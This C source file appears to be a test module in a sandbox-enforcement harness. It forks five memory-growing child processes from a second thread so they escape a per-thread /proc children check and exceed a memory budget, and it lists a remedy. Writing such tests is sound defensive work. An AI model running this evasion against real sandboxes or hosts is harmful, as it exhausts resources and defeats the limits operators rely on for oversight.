// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * Goal:  more memory than the budget.
 * Means: /proc keeps the list of children for each thread apart. Who reads the first thread's finds
 *        none: a second one has made the five that hold the memory.
 */
#include "attacks/memory-bomb/children.h"

#include <errno.h>
#include <pthread.h>

static void *start_all(void *arg)
{
	const int *full = arg;

	for (int i = 0; i < CHILDREN; i++) {
		pid_t child = fork();

		if (child < 0)
			_exit(denied("fork"));
		if (child == 0)
			grow(full[1]);
	}
	_exit(hold_children(arg));
}

static enum claim run(const struct brief *b)
{
	pthread_t second;
	int full[2];

	if (pipe(full))
		return failed("pipe");
	attempting(b);
	errno = pthread_create(&second, NULL, start_all, full);
	if (errno)
		return denied("pthread_create");
	pthread_join(second, NULL);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more memory than the budget, five processes together",
	.means = "children of a second thread, which the first one's list does not have",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "look through /proc/PID/task; deny the making of processes; a memory cgroup",
	.refs = (const char *const[]){ "proc_tid_children(5)", NULL },
	.run = run,
};
